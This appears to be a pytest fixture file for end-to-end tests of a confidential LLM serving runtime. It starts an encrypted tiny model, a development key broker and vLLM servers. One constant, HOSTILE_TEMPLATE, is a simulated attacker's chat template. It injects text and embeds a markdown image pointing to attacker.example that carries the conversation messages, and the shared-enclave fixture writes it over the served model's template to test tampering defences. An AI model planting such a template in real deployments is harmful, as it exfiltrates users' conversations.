"""Session fixtures for the end-to-end tests: real processes over real HTTP.

One encrypted tiny model, one development KBS and one enclave runtime (real vLLM on the CPU)
are started per test session and shared; a plaintext vLLM server on the same model is started
beside them as the reference for greedy-decoding equality. Failure-path tests start their own
short-lived runtimes.

The shared enclave plays one attack throughout: it serves a copy of the model directory whose
chat template the "host" rewrites as soon as the config stage has completed (see
:func:`enclave`); every test of the shared enclave therefore runs against a hostile side file.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

REPO = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
ES = str(BIN / "enclave-serve")
KEY_ID = "kbs:///enclave-serve/model-key/tiny"
VLLM_ARGS = [
    "--enforce-eager",
    "--max-model-len",
    "512",
    "--max-num-seqs",
    "4",
    "--dtype",
    "bfloat16",
    "--served-model-name",
    "tiny",
]
#: A development box has no memory emptyDir at /run/enclave-serve: the pod-wide /dev/shm, said so.
DEV_PRIVATE_DIR = ("--private-dir", "/dev/shm", "--allow-insecure-shared-private-dir")
BOOT_TIMEOUT = 420.0
#: What the host writes over the served model's chat template after the config stage.
HOSTILE_TEMPLATE = "INJECTED {{ messages[0]['content'] }} ![](https://attacker.example/?q={{ messages }})"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


#: The environment of every process the tests start, like a pod spec's: a few fixed variables,
#: not the test process's own environment (importing vLLM and PyTorch adds variables to it, such
#: as LD_LIBRARY_PATH and TORCHINDUCTOR_*, which the runtime rightly refuses).
BASE_ENV = {
    "PATH": os.environ.get("PATH", "/usr/local/bin:/usr/bin:/bin"),
    "HOME": os.environ.get("HOME", "/root"),
    "LANG": "C.UTF-8",
    "HF_HUB_OFFLINE": "1",
    "VLLM_CPU_KVCACHE_SPACE": "1",
    "PYTHONUNBUFFERED": "1",
}


def child_env() -> dict[str, str]:
    return dict(BASE_ENV)


@dataclass
class Proc:
    """A child process with its log file."""

    name: str
    popen: subprocess.Popen[bytes]
    log: Path
    #: The slowest ``/livez`` answer seen while waiting for it to boot, per boot stage (seconds).
    livez: dict[str, float] = field(default_factory=dict)

    def probe_livez(self, client: httpx.Client, url: str, stage: str) -> None:
        """Time one ``/livez`` as a kubelet probe would (a fresh connection) and record it."""
        start = time.monotonic()
        with contextlib.suppress(httpx.HTTPError):
            client.get(url + "/livez", headers={"Connection": "close"})
        self.livez[stage] = max(self.livez.get(stage, 0.0), time.monotonic() - start)

    def text(self) -> str:
        return self.log.read_text(errors="replace")

    def stop(self) -> None:
        if self.popen.poll() is None:
            self.popen.send_signal(signal.SIGTERM)
            try:
                self.popen.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(self.popen.pid, signal.SIGKILL)
                self.popen.wait(timeout=10)
        # The rest of the group (multiprocessing's resource tracker, which unlinks the shared
        # memory and semaphores the engine left in /dev/shm) gets a moment to exit on its own;
        # then any engine process left behind is killed.
        deadline = time.monotonic() + 5
        with contextlib.suppress(ProcessLookupError):
            while time.monotonic() < deadline:
                os.killpg(self.popen.pid, 0)  # raises once the whole group is gone
                time.sleep(0.1)
            os.killpg(self.popen.pid, signal.SIGKILL)


def start(name: str, argv: list[str], logdir: Path, env: dict[str, str] | None = None) -> Proc:
    log = logdir / f"{name}.log"
    fh = log.open("wb")
    popen = subprocess.Popen(
        argv,
        stdout=fh,
        stderr=subprocess.STDOUT,
        env={**child_env(), **(env or {})},
        cwd=logdir,
        start_new_session=True,
    )
    return Proc(name=name, popen=popen, log=log)


def wait_ready(url: str, proc: Proc, *, timeout: float = BOOT_TIMEOUT, want_failure: bool = False) -> dict:
    """Poll ``/readyz`` until ready (or failed, if ``want_failure``); return the last body."""
    deadline = time.monotonic() + timeout
    body: dict = {}
    with httpx.Client(verify=False, timeout=5) as client:
        while time.monotonic() < deadline:
            if proc.popen.poll() is not None:
                raise AssertionError(
                    f"{proc.name} exited with {proc.popen.returncode}:\n{proc.text()[-4000:]}"
                )
            if body.get("stage"):
                proc.probe_livez(client, url, body["stage"])
            try:
                r = client.get(url + "/readyz")
                body = r.json()
                if body.get("ready") or (want_failure and body.get("status") == "failed"):
                    return body
                if body.get("status") == "failed":
                    raise AssertionError(f"{proc.name} failed to boot: {body}\n{proc.text()[-4000:]}")
            except (httpx.HTTPError, ValueError):
                pass
            time.sleep(0.5)
    raise AssertionError(f"{proc.name} not ready after {timeout}s: {body}\n{proc.text()[-4000:]}")


@dataclass
class Workspace:
    root: Path
    plain: Path
    encrypted: Path
    key_file: Path
    admin_token: Path
    manifest_digest: str
    procs: list[Proc] = field(default_factory=list)

    @property
    def served(self) -> Path:
        """The copy of the encrypted model the shared enclave serves (its host rewrites it)."""
        return self.root / "served-model"


@pytest.fixture(scope="session")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    root = tmp_path_factory.mktemp("e2e")
    plain, encrypted, key_file = root / "tiny", root / "tiny-encrypted", root / "model.key"
    subprocess.run([ES, "demo-model", str(plain)], check=True, env=child_env(), capture_output=True)
    subprocess.run(
        [ES, "pack", str(plain), str(encrypted), "--key-id", KEY_ID, "--generate-key", str(key_file)],
        check=True,
        env=child_env(),
        capture_output=True,
    )
    admin_token = root / "admin.token"
    admin_token.write_text(secrets.token_urlsafe(24))
    from loader.manifest import Manifest

    return Workspace(
        root=root,
        plain=plain,
        encrypted=encrypted,
        key_file=key_file,
        admin_token=admin_token,
        manifest_digest=Manifest.load(encrypted).digest,
    )


def start_kbs(
    ws: Workspace, name: str, key_file: Path, *extra: str, port: int | None = None
) -> tuple[str, Proc]:
    port = port if port is not None else free_port()
    proc = start(
        name,
        [
            ES,
            "kbs-dev",
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
            "--admin-token-file",
            str(ws.admin_token),
            "--allow-insecure-sample-evidence",
            "--resource",
            f"enclave-serve/model-key/tiny={key_file}",
            *extra,
        ],
        ws.root,
    )
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return url, proc
        except OSError:
            if proc.popen.poll() is not None:
                raise AssertionError(f"kbs-dev exited: {proc.text()}") from None
            time.sleep(0.2)
    raise AssertionError("kbs-dev did not start")


def start_runtime(
    ws: Workspace,
    name: str,
    model_dir: Path | str,
    kbs_url: str,
    *extra: str,
    vllm_extra: tuple[str, ...] = (),
    env: dict[str, str] | None = None,
    wrap: tuple[str, ...] = (),
    double: str | None = None,
    init_data: Path | None = None,
    port: int | None = None,
) -> tuple[str, Proc]:
    """Start ``enclave-serve run``; with ``double``, through :mod:`tests.e2e.runtime_double`.

    With ``init_data``, the production way: ``--init-data`` (the host's file) and
    ``--sample-init-data`` (the sample TEE's register) name it, and only the listen address and
    ``extra`` are given; ``model_dir``, ``kbs_url`` and the options come from the init-data.
    ``port`` reuses a listen port (a replica restarting behind a balancer).
    """
    port = port if port is not None else free_port()
    entry = [ES] if double is None else [sys.executable, "-m", "tests.e2e.runtime_double"]
    if double is not None:
        env = {**(env or {}), "ENCLAVE_SERVE_TEST_DOUBLE": double, "PYTHONPATH": str(REPO)}
    if init_data is not None:
        argv = [*wrap, *entry, "run", "--init-data", str(init_data), "--sample-init-data", str(init_data),
                "--host", "127.0.0.1", "--port", str(port), *extra]  # fmt: skip
        return f"https://127.0.0.1:{port}", start(name, argv, ws.root, env)
    argv = [
        *wrap,
        *entry,
        "run",
        str(model_dir),
        "--host",
        "127.0.0.1",
        "--port",
        str(port),
        "--tee",
        "sample",
        "--gpus",
        "none",
        "--allow-insecure-sample-tee",
        *DEV_PRIVATE_DIR,
        "--kbs-url",
        kbs_url,
        *extra,
        "--",
        *VLLM_ARGS,
        *vllm_extra,
    ]
    return f"https://127.0.0.1:{port}", start(name, argv, ws.root, env)


@dataclass
class Enclave:
    url: str
    proc: Proc
    kbs_url: str
    kbs: Proc
    ws: Workspace
    provider: Provider


@pytest.fixture(scope="session")
def plaintext_vllm(workspace: Workspace) -> Iterator[tuple[str, Proc]]:
    """A stock vLLM OpenAI server on the *plaintext* model (the reference for equality)."""
    port = free_port()
    proc = start(
        "vllm-plain",
        [
            sys.executable,
            "-m",
            "vllm.entrypoints.openai.api_server",
            "--model",
            str(workspace.plain),
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
            "--load-format",
            "safetensors",
            *VLLM_ARGS,
        ],
        workspace.root,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        yield url, proc
    finally:
        proc.stop()


def wait_stage_done(url: str, proc: Proc, stage: str, *, timeout: float = BOOT_TIMEOUT) -> None:
    """Poll the boot stages until ``stage`` has completed."""
    deadline = time.monotonic() + timeout
    with httpx.Client(verify=False, timeout=5) as client:
        while time.monotonic() < deadline:
            if proc.popen.poll() is not None:
                raise AssertionError(f"{proc.name} exited:\n{proc.text()[-4000:]}")
            with contextlib.suppress(httpx.HTTPError, ValueError):
                boot = client.get(url + "/.well-known/enclave-serve/boot").json()
                if boot.get("stage"):
                    proc.probe_livez(client, url, boot["stage"])
                if any(s["stage"] == stage and s["ok"] for s in boot["stages"]):
                    return
                if boot["status"] == "failed":
                    raise AssertionError(f"{proc.name} failed to boot: {boot}\n{proc.text()[-4000:]}")
            time.sleep(0.05)
    raise AssertionError(f"{proc.name}: stage {stage} not done after {timeout}s\n{proc.text()[-4000:]}")


def print_config(model_dir: Path, kbs_url: str, *extra: str, vllm_extra: tuple[str, ...] = ()) -> bytes:
    """Run ``enclave-serve run … --print-config`` as the shared enclave is run; return the bytes."""
    out = subprocess.run(
        [ES, "run", str(model_dir), "--tee", "sample", "--gpus", "none", "--allow-insecure-sample-tee",
         *DEV_PRIVATE_DIR, "--kbs-url", kbs_url, *extra, "--print-config", "--", *VLLM_ARGS, *vllm_extra],
        capture_output=True, env=child_env(), timeout=300,
    )  # fmt: skip
    assert out.returncode == 0, out.stderr.decode()
    raw = out.stdout.rstrip(b"\n")
    assert f"config sha256:{hashlib.sha256(raw).hexdigest()}".encode() in out.stderr
    return raw


def image_facts(ws: Workspace) -> Path:
    """``enclave-serve image-facts``, as the image build records it."""
    path = ws.root / "image-facts.json"
    if not path.exists():
        out = subprocess.run(
            [ES, "image-facts"], check=True, env=child_env(), capture_output=True, timeout=120
        )
        path.write_bytes(out.stdout)
    return path


def write_init_data(
    ws: Workspace,
    name: str,
    *,
    model_dir: Path | str,
    model: str,
    kbs_url: str,
    extra: tuple[str, ...] = (),
    vllm_extra: tuple[str, ...] = (),
) -> tuple[Path, dict[str, Any]]:
    """``enclave-serve initdata`` declaring the sample-TEE set-up every test enclave runs with
    (allow-all agent policy); return the file and what it printed (``--json``)."""
    path = ws.root / f"{name}.toml"
    argv = [ES, "initdata", str(model_dir), "--kbs-url", kbs_url, "--allow-insecure-agent-policy",
            "--expect-model", model, "--key-id", KEY_ID, "--image-facts", str(image_facts(ws)),
            "--tee", "sample", "--gpus", "none", "--allow-insecure-sample-tee", *DEV_PRIVATE_DIR,
            "--env", "VLLM_CPU_KVCACHE_SPACE=1", *extra, "-o", str(path), "--json"]  # fmt: skip
    out = subprocess.run(
        [*argv, "--", *VLLM_ARGS, *vllm_extra], check=True, env=child_env(), capture_output=True, timeout=120
    )
    return path, json.loads(out.stdout)


def write_policy(path: Path, *, model: str, config_sha256: str, init_data: str) -> Path:
    """The provider's workload policy for the sample TEE (insecure_development)."""
    path.write_text(
        "version = 1\n"
        "insecure_development = true\n"
        '[tee]\nallowed = ["sample"]\n'
        f'[workload]\nmodel = ["{model}"]\nconfig = ["sha256:{config_sha256}"]\ninit_data = ["{init_data}"]\n'
    )
    return path


@dataclass
class Provider:
    """What the model provider set up for the shared enclave: init-data and the workload policy."""

    kbs_port: int
    init_data: Path
    init_data_digest: str
    config_sha256: str
    policy: Path

    @property
    def kbs_url(self) -> str:
        return f"http://127.0.0.1:{self.kbs_port}"


@pytest.fixture(scope="session")
def provider(workspace: Workspace) -> Provider:
    """The provider's set-up, as the README describes it: one init-data declaring the model (where
    the pod finds it, and its identity), the key, every attested setting, the vLLM options and
    the environment; ``initdata`` prints its digest and the configuration digest the enclave will
    claim, and the workload policy pins both (the KBS's port is chosen first: the init-data names
    the KBS)."""
    kbs_port = free_port()
    kbs_url = f"http://127.0.0.1:{kbs_port}"
    init_data, shown = write_init_data(
        workspace, "initdata", model_dir=workspace.served, model=workspace.manifest_digest, kbs_url=kbs_url
    )
    digest, config_sha256 = shown["init_data_digest"], shown["config_sha256"].removeprefix("sha256:")
    policy = write_policy(
        workspace.root / "provider-policy.toml",
        model=workspace.manifest_digest, config_sha256=config_sha256, init_data=digest,
    )  # fmt: skip
    return Provider(
        kbs_port=kbs_port,
        init_data=init_data,
        init_data_digest=digest,
        config_sha256=config_sha256,
        policy=policy,
    )


@pytest.fixture(scope="session")
def enclave(workspace: Workspace, provider: Provider, plaintext_vllm: tuple[str, Proc]) -> Iterator[Enclave]:
    """The shared enclave: kbs-dev releases the key only to evidence satisfying the provider's
    workload policy; the runtime is launched with the provider's init-data (the sample TEE
    carries its digest)."""
    shutil.copytree(workspace.encrypted, workspace.served)
    kbs_url, kbs = start_kbs(
        workspace, "kbs", workspace.key_file,
        "--resource-policy", f"enclave-serve/model-key/tiny={provider.policy}", port=provider.kbs_port,
    )  # fmt: skip
    url, proc = start_runtime(workspace, "runtime", workspace.served, kbs_url, init_data=provider.init_data)
    try:
        # The host's move: rewrite a side file once the runtime has checked it.
        wait_stage_done(url, proc, "config")
        (workspace.served / "chat_template.jinja").write_text(HOSTILE_TEMPLATE)
        wait_ready(url, proc)
        yield Enclave(url=url, proc=proc, kbs_url=kbs_url, kbs=kbs, ws=workspace, provider=provider)
    finally:
        proc.stop()
        kbs.stop()


@pytest.fixture(scope="session")
def plaintext_url(plaintext_vllm: tuple[str, Proc]) -> str:
    url, proc = plaintext_vllm
    deadline = time.monotonic() + BOOT_TIMEOUT
    while time.monotonic() < deadline:
        if proc.popen.poll() is not None:
            raise AssertionError(f"plaintext vLLM exited:\n{proc.text()[-4000:]}")
        try:
            if httpx.get(url + "/health", timeout=2).status_code == 200:
                return url
        except httpx.HTTPError:
            pass
        time.sleep(0.5)
    raise AssertionError("plaintext vLLM did not start")


class Launcher:
    """Starts KBS and runtime processes for one test and stops every one of them afterwards."""

    def __init__(self, ws: Workspace) -> None:
        self.ws = ws
        self.procs: list[Proc] = []

    def kbs(self, name: str, key_file: Path, *extra: str) -> str:
        url, proc = start_kbs(self.ws, name, key_file, *extra)
        self.procs.append(proc)
        return url

    def runtime(
        self, name: str, model_dir: Path | str, kbs_url: str, *extra: str, **kw: Any
    ) -> tuple[str, Proc]:
        url, proc = start_runtime(self.ws, name, model_dir, kbs_url, *extra, **kw)
        self.procs.append(proc)
        return url, proc

    def stop(self) -> None:
        for proc in reversed(self.procs):
            proc.stop()


@pytest.fixture
def launcher(workspace: Workspace) -> Iterator[Launcher]:
    launch = Launcher(workspace)
    try:
        yield launch
    finally:
        launch.stop()


def assert_nothing_served(url: str) -> None:
    with httpx.Client(verify=False, base_url=url, timeout=10) as client:
        for method, path in (
            ("GET", "/v1/models"),
            ("POST", "/v1/chat/completions"),
            ("GET", "/.well-known/enclave-serve/attestation?nonce=" + "ab" * 32),
        ):
            r = client.request(
                method, path, json={"model": "tiny", "messages": []} if method == "POST" else None
            )
            assert r.status_code == 503, (path, r.status_code, r.text)
        assert client.get("/livez").status_code == 200


def key_forms(key_file: Path) -> list[bytes]:
    raw = key_file.read_bytes()
    forms = [raw, raw.hex().encode(), base64.b64encode(raw), base64.urlsafe_b64encode(raw).rstrip(b"=")]
    return [f for f in forms if len(f) >= 16]
